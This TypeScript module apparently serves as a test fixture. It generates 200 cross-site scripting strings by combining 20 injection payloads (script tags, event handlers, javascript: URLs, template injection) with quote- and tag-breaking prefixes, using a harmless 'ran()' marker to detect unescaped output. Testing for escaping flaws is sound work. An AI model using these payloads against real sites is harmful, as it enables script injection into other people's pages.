/** The function that the strings call when they run. */
export const alarm = 'ran()';

/** Ways to break out of text: elements, attributes in either quotes, raw text, comments, templates. */
const waysOut = ['', '">', "'>", '</textarea>', '</title>', '</style>', '</script>', '-->', '`">', '\u2028\\">'];

const scripts = [
  `<script>${alarm}</script>`,
  `<img src=x onerror=${alarm}>`,
  `<svg onload=${alarm}>`,
  `<svg><script>${alarm}</script>`,
  `<body onload=${alarm}>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>">`,
  `<a href="javascript:${alarm}">x</a>`,
  `<details open ontoggle=${alarm}>`,
  `<input autofocus onfocus=${alarm}>`,
  `<video><source onerror=${alarm}>`,
  `<math><mi xlink:href="javascript:${alarm}">`,
  `<object data="javascript:${alarm}">`,
  `<style>@import'javascript:${alarm}'</style>`,
  `<link rel=stylesheet href=javascript:${alarm}>`,
  `<meta http-equiv=refresh content=0;javascript:${alarm}>`,
  `<form action=javascript:${alarm}><input type=submit>`,
  `" onmouseover=${alarm} x="`,
  `javascript:${alarm}//`,
  `{{constructor.constructor('${alarm}')()}}`,
  `\${${alarm}}<%=${alarm}%>`,
];

/** 200 strings that run if a page inserts text without escaping; each fits into the shortest field, 60 characters. */
export const scriptStrings: string[] = scripts.flatMap((script) =>
  waysOut.map((out) => (out.length + script.length <= 60 ? out + script : out + script.slice(0, 60 - out.length))),
);
